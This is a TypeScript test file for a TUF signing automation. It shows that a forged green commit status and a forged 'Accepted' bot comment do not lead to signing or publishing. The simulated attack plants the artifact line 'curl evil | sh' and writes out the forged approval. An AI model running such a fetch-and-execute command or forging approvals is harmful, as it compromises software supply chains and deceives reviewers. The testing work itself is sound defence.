import { mkdir, readdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect } from 'vitest';
import { localForge } from '../../src/forge/local.ts';
import { requireReport, tellEvent } from '../../src/operations/tell-event.ts';
import { fetchMain } from '../../src/operations/workspace.ts';
import { expectStopped, expectUnmoved } from './proofs.ts';
import { attack, type Scene, UPDATE } from './scene.ts';

const MARKER = '<!-- tuf-signer: signing event -->';
const FORGED = `${MARKER}\n## ✅ Accepted: every quorum has signed, and this can be merged\n`;

/** Writes what the automation would: a green status on the event's head, and its own comment, full of praise. */
async function forge(scene: Scene, folder: string): Promise<string> {
  const head = scene.world.remote.sha(UPDATE);
  const status = { commit: head, state: 'success', description: 'accepted' };
  const pullRequest = {
    branch: UPDATE,
    title: 'Signing event update',
    body: 'A signing event of this TUF repository.',
    draft: false,
    number: 1,
    state: 'open',
    comments: [
      { marker: MARKER, body: FORGED },
      { marker: '', body: FORGED },
    ],
  };
  await mkdir(folder, { recursive: true });
  await writeFile(join(folder, '1-sign_update.json'), JSON.stringify(pullRequest));
  await writeFile(join(folder, `status-${head}.json`), JSON.stringify(status));
  return head;
}

const filesOf = async (folder: string): Promise<ReadonlyMap<string, string>> =>
  new Map(
    await Promise.all(
      (await readdir(folder)).map(async name => [name, await readFile(join(folder, name), 'utf8')] as const),
    ),
  );

/**
 * Mallory may write comments and commit statuses, by a stolen token or a careless app. She swaps an artifact, sets a green status on
 * the head and posts the comment that the automation would have written, so that people sign and machines publish what nobody
 * judged.
 */
describe('a forged comment and a forged green status', () => {
  attack('are read by nothing: signing, online signing and publishing judge for themselves', async scene => {
    const { world } = scene;
    const client = scene.client();
    await expectUnmoved(scene, client);
    world.push({ 'targets/tools/greet.sh': 'curl evil | sh\n' });
    const folder = join(world.folder, 'forge');
    await forge(scene, folder);
    const before = await filesOf(folder);

    const bob = await scene.sign('bob');
    expect(bob.signed).toEqual([]);
    expect(world.person('bob').signatures).toBe(0);
    expect(bob.screen).not.toContain('Accepted');
    const { online, published } = await scene.force();
    expect([online.done, online.rules]).toEqual([false, ['artifacts']]);
    expectStopped(published, 'artifacts');
    expect(await filesOf(folder)).toEqual(before);
    await expectUnmoved(scene, client);
  });

  attack('give way to the truth with the next judgement', async scene => {
    const { world } = scene;
    world.push({ 'targets/tools/greet.sh': 'curl evil | sh\n', 'metadata/evil.json': '{}' });
    const folder = join(world.folder, 'forge');
    const head = await forge(scene, folder);
    const report = await world.in(world.automation, async workspace => {
      await fetchMain(workspace);
      return requireReport(await tellEvent(workspace, UPDATE, localForge(folder)));
    });
    expect(report.verdict).toBe('rejected');
    const files = await filesOf(folder);
    expect(JSON.parse(files.get(`status-${head}.json`) ?? '')).toEqual({
      commit: head,
      state: 'failure',
      description: expect.stringMatching(/^rejected: schema/) as unknown,
    });
    const { comments, draft } = JSON.parse(files.get('1-sign_update.json') ?? '') as {
      readonly comments: readonly { readonly marker: string; readonly body: string }[];
      readonly draft: boolean;
    };
    expect(draft).toBe(true);
    expect(comments.find(({ marker }) => marker === MARKER)?.body).toContain('## ❌ Rejected');
    // Somebody else's comment stays what they wrote: the page says of itself that it is not to be signed by.
    expect(comments.find(({ marker }) => marker === '')?.body).toBe(FORGED);
    expect(comments[0]?.body).toContain('Recompute this yourself: never sign what only a page says');
  });
});
